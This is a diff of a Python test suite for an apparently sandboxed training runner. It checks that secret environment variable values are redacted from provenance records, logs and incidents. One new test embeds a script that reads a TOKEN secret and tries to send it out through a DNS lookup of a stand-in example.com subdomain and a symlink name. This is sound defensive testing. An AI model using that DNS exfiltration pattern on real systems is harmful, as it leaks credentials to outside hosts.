@@ -115,7 +115,10 @@ def test_provenance_names_everything_that_went_in_by_kind_and_digest(
     assert inside["exit"] == {"code": 0, "signal": None}
     metadata = provenance.run_details.metadata
     assert parse_time(metadata.started_on) <= parse_time(metadata.finished_on)
-    # What a variable holds may be nobody's business: its name and a digest are recorded.
+    # What a variable holds may be nobody's business: its name alone is recorded, and no digest of
+    # it, by which a short secret could be found again.
+    assert definition.external_parameters["environment"] == ["WHO"]
+    assert "environmentDigest" not in definition.external_parameters
     assert b"nobody-in-particular" not in encode_statement(training().statements[0])
 
 
@@ -137,6 +140,36 @@ def test_an_attempt_leaves_no_model_and_an_open_incident_that_tells_it(
     digests = {subject.sha256 for subject in statement.subjects}
     assert digests == {system_digest("loans"), identify(project / "train.py").digest}
     assert decode_statement(encode_statement(statement)).predicate == incident
+
+
+def test_no_value_of_a_variable_leaves_the_run(training: Train) -> None:
+    secret = "s3cr3t-token-value"
+    script = """
+import os, socket, sys
+value = os.environ["TOKEN"]
+print("out", value)
+print("err", value.upper(), file=sys.stderr)
+for reach in (
+    lambda: socket.getaddrinfo(value + ".example.com", 80),
+    lambda: os.symlink("nowhere", "model/" + value),
+):
+    try:
+        reach()
+    except OSError:
+        pass
+"""
+    result = training(script, environment={"TOKEN": secret})
+    assert not result.succeeded
+    assert [v.kind for v in result.violations if "[TOKEN]" in v.detail] == ["network", "output"]
+    (incident,) = (statement.predicate for statement in result.statements)
+    assert isinstance(incident, Incident)
+    assert "[TOKEN].example.com" in incident.detail
+    assert "out [TOKEN]" in result.outcome.stdout.tail
+    assert "err [TOKEN]" in result.outcome.stderr.tail
+    said = repr(result).lower() + "".join(
+        encode_statement(statement).decode().lower() for statement in result.statements
+    )
+    assert secret[:6] not in said
 
 
 def test_running_into_a_limit_is_on_record_and_closed(training: Train, project: Path) -> None:
